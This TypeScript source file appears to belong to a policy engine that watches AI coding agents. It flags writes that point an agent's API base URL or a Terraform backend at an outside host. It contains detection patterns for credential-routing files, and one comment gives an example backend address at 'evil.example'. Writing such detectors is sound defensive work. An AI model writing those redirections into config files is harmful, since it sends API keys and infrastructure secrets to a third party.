import type { Finding } from '../../policy/types';
import { movedEndpoint, outsideHost } from './endpointOverrides';

/**
 * A client's API address moved by a file it loads on start rather than on the command line: an
 * environment file (`.env` in the project or a folder above it, `~/.env`, `.gemini/.env` and
 * `~/.gemini/.env` that Gemini CLI reads, `~/.codex/.env`, aider's `.env` files, direnv's `.envrc`)
 * given `OPENAI_BASE_URL=https://…`, or an agent's own settings given a base URL (`openai-api-base:`
 * in `.aider.conf.yml`, `baseURL` in `opencode.json`, `apiBase` in Continue's `config.yaml`,
 * `base_url` in Codex's `config.toml`, an `env` entry in Claude Code's settings, mise's `[env]`). Every later run of
 * that client presents its API key to that host; a loopback address or the vendor's own host stays
 * allowed. Asked like the variable on the command line (`endpointOverrides.ts`).
 */

/** Environment files clients load (dotenv, direnv); templates (`.env.example`) are not loaded. */
const ENV_FILE = /(^|\/)\.(env(\.[\w.-]+)?|envrc)$/i;
const TEMPLATE = /\.(example|sample|template|dist|tpl)$/i;
/** Agents' own settings files that name the address they send their key to. */
const AGENT_CONFIG = /(^|\/)(\.aider\.conf\.ya?ml|\.?opencode\.jsonc?|\.config\/opencode\/config\.jsonc?|\.?crush\.json|\.continuerc\.json|\.continue\/(config\.(ya?ml|json)|(assistants|models)\/[^/]+\.ya?ml)|\.codex\/config\.toml|\.config\/goose\/config\.ya?ml|\.claude\/settings(\.local)?\.json|\.(qwen|gemini)\/settings\.json|\.config\/amp\/settings\.json|\.factory\/(settings|config)\.json|\.kimi\/config\.(toml|json))$/i;
/** Tool-version managers' settings whose `[env]` section every command run in the folder gets (mise). */
const ENV_SECTION = /(^|\/)(\.?mise(\.local)?\.toml|\.config\/mise\/config\.toml|\.mise\/config\.toml)$/i;
/** A variable given a value (`NAME=value`, `export NAME=value`, `"NAME": "value"`, `NAME: value`, `- NAME=value`). */
const VARIABLE = /\b(?:AIDER_)?([A-Z][A-Z0-9_]{2,80})["']?\s*[:=]\s*["']?([^"'\s,}\]]+)/g;
/** Keys of agents' settings that hold the API address. */
const ADDRESS_KEY = /["']?((?:openai|anthropic)[-_]api[-_]base|api[-_]?base|base[-_]?url|api[-_]?url|(?:openai|chatgpt)_base_url|amp\.url|endpoint)["']?\s*[:=]\s*["']?([^"'\s,}\]]+)/gi;

function ask(path: string, writer: string, key: string, value: string, host: string): Finding {
  const shown = path.split('/').slice(-2).join('/');
  return {
    rule: 'credentialRoutes.endpoint-override',
    risk: 'credential-use',
    severity: 'ask',
    reason: `${writer} sets ${key} to ${value.slice(0, 120)} in ${shown}, a file a client or agent loads when it starts: every later run presents its API key or token to ${host}, not to its vendor's service.`,
    targets: [{ kind: 'url', name: host, remote: true, environment: 'production', environmentReason: 'a host named only in a file the agent wrote — treated as production' }],
  };
}

/** A Terraform backend block and the address keys that say where its state goes (`backend "http" { address = "…" }`). */
const TF_BACKEND = /\bbackend\s+"(\w+)"\s*\{([^}]{0,2000})\}/g;
const TF_ADDRESS = /\b(address|lock_address|unlock_address|endpoint|endpoints|hostname|url|conn_str|path)\s*=\s*(?:\{[^}]*?)?"([^"]+)"/g;

/** `backend "http" { address = "https://evil.example/state" }`: every later init, plan and apply sends the state, and the secrets it holds, there. */
function terraformBackend(path: string, text: string, writer: string): Finding[] {
  if (!/\.tf(\.json)?$/i.test(path)) return [];
  for (const block of text.slice(0, 64 * 1024).matchAll(TF_BACKEND)) {
    for (const m of block[2]!.matchAll(TF_ADDRESS)) {
      const host = outsideHost(m[2]!);
      if (!host || (block[1] === 'local' && m[1] === 'path')) continue;
      const shown = path.split('/').slice(-2).join('/');
      return [{
        rule: 'credentialRoutes.endpoint-override',
        risk: 'credential-use',
        severity: 'ask',
        reason: `${writer} points the Terraform ${block[1]} backend in ${shown} at ${host} (${m[1]}): every later init, plan and apply sends the state, with the secrets it holds, and the backend credentials there.`,
        targets: [{ kind: 'url', name: host, remote: true, environment: 'production', environmentReason: 'a host named only in a file the agent wrote — treated as production' }],
      }];
    }
  }
  return [];
}

/** Findings for `text` (undefined: not known) written into `path` by `writer`. */
export function endpointFileWrites(path: string, text: string | undefined, writer: string): Finding[] {
  if (text === undefined) return [];
  const backend = terraformBackend(path, text, writer);
  if (backend.length > 0) return backend;
  const env = (ENV_FILE.test(path) && !TEMPLATE.test(path)) || ENV_SECTION.test(path);
  const agent = !env && AGENT_CONFIG.test(path);
  if (!env && !agent) return [];
  const sample = text.slice(0, 64 * 1024);
  for (const m of sample.matchAll(VARIABLE)) {
    const host = movedEndpoint(m[1]!, m[2]!);
    if (host) return [ask(path, writer, m[1]!, m[2]!, host)];
  }
  if (agent) {
    for (const m of sample.matchAll(ADDRESS_KEY)) {
      const host = outsideHost(m[2]!);
      if (host) return [ask(path, writer, m[1]!, m[2]!, host)];
    }
  }
  return [];
}
